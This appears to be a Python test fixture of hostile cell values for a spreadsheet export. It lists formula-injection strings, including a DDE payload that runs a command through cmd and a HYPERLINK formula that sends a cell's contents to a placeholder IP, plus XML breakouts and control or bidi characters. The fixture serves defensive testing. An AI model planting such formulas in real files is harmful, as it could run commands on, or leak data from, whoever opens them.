"""Names that would be more than names, if a file let them."""

from __future__ import annotations

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "{=1+1}",
    "http://192.0.2.1/",
    "mailto:x@example.nhs.uk",
    "internal:Weeks!A1",
    "<r><t>rich</t></r>",
    "<r></si></sst></r>",
    "_x0041_",
    "&C&P <b>&amp;",
    "]]><!--",
    "\"quoted\"; 'x'",
    "MERGEFIELD {name}",
    "1e5",
    "007",
    "TRUE",
    "Zoë 李 \U0001f3e5",
)
"""Each is to be shown as it stands."""
ODD = ("\t=1", "\r\n=1", "a\x00b\x1b[31m", "\u202eevil", "\ud800", "\ufffe")
"""Each is to be shown with what it holds written as an escape."""
